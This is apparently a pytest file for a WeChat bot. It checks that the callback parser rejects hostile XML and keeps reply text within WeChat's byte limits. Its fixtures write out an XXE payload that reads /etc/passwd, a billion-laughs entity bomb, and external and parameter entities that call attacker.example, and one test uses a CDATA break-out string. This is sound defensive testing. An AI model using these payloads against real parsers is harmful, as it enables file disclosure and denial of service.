"""Callback XML: hostile documents are refused; replies stay within WeChat's limits."""

from __future__ import annotations

import pytest

from bot.menu.pages import MAIN_MENU
from bot.wechat.errors import Malformed
from bot.wechat.messages import (
    MAX_TEXT_BYTES,
    Inbound,
    pack_texts,
    parse_xml,
    text_reply,
)
from bot.wechat.replies import click_text, render_buttons

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh</ToUserName><FromUserName>o1</FromUserName>
<MsgType>text</MsgType><Content>&secret;</Content></xml>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><FromUserName>o1</FromUserName><MsgType>text</MsgType><Content>&lol9;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><FromUserName>o1</FromUserName><MsgType>text</MsgType></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<xml><FromUserName>o1</FromUserName><MsgType>text</MsgType></xml>"""


@pytest.mark.parametrize(
    "body",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, b"", b"<xml><open></xml>", b"\xff\xfe<"],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "empty", "broken", "binary"],
)
def test_hostile_or_broken_xml_is_refused(body: bytes) -> None:
    with pytest.raises(Malformed):
        parse_xml(body)


def test_only_an_xml_root_is_accepted() -> None:
    with pytest.raises(Malformed):
        parse_xml(b"<html><FromUserName>o1</FromUserName></html>")


def test_a_message_needs_a_sender_and_a_type() -> None:
    with pytest.raises(Malformed):
        Inbound.from_fields(parse_xml(b"<xml><MsgType>text</MsgType></xml>"))
    with pytest.raises(Malformed):
        Inbound.from_fields({"FromUserName": "o" * 200, "MsgType": "text"})


def test_retries_share_a_key_and_events_are_keyed_by_sender_and_time() -> None:
    a = Inbound.from_fields({"FromUserName": "o1", "MsgType": "text", "MsgId": "42"})
    b = Inbound.from_fields({"FromUserName": "o1", "MsgType": "text", "MsgId": "42"})
    assert a.dedup_key == b.dedup_key
    e1 = Inbound.from_fields({"FromUserName": "o1", "MsgType": "event", "CreateTime": "100"})
    e2 = Inbound.from_fields({"FromUserName": "o2", "MsgType": "event", "CreateTime": "100"})
    e3 = Inbound.from_fields({"FromUserName": "o1", "MsgType": "event", "CreateTime": "101"})
    assert len({e1.dedup_key, e2.dedup_key, e3.dedup_key}) == 3


def test_reply_text_cannot_break_out_of_cdata() -> None:
    xml = text_reply("o1", "gh", "a]]><MsgType>news</MsgType>", 1)
    fields = parse_xml(xml)
    assert fields["Content"] == "a]]><MsgType>news</MsgType>" and fields["MsgType"] == "text"


def test_long_answers_are_split_within_2048_bytes_in_order() -> None:
    steps = "\n".join(f"{i}. 在设置里找到显示与亮度，把字体调大一点" for i in range(1, 80))
    texts = ["您好！", steps, "回复“菜单”回到主菜单。"]
    packed = pack_texts(texts)
    assert len(packed) > 1
    assert all(len(p.encode("utf-8")) <= MAX_TEXT_BYTES for p in packed)
    assert "".join(packed).replace("\n", "") == "".join(texts).replace("\n", "")
    assert pack_texts(["短", "也短"]) == ["短\n\n也短"]


def test_a_single_line_longer_than_the_limit_is_cut_between_characters() -> None:
    packed = pack_texts(["骗" * 1000], limit=100)
    assert all(len(p.encode()) <= 100 for p in packed) and "".join(packed) == "骗" * 1000


def test_menu_clicks_become_the_menu_words() -> None:
    assert click_text("menu") == "菜单"
    assert click_text("MENU_HEALTH") == "健康"
    assert click_text("menu_3") == "防骗"
    assert click_text("menu:report_rumor") == "举报谣言"
    assert click_text("something-else") == "菜单"
    assert {click_text(f"menu_{item.key}") for item in MAIN_MENU} == {i.label for i in MAIN_MENU}


def test_buttons_render_as_numbered_lines() -> None:
    text = render_buttons("这条有用吗？", ["有用", "没用"])
    assert text == "这条有用吗？\n请回复数字选择：\n1 有用\n2 没用"
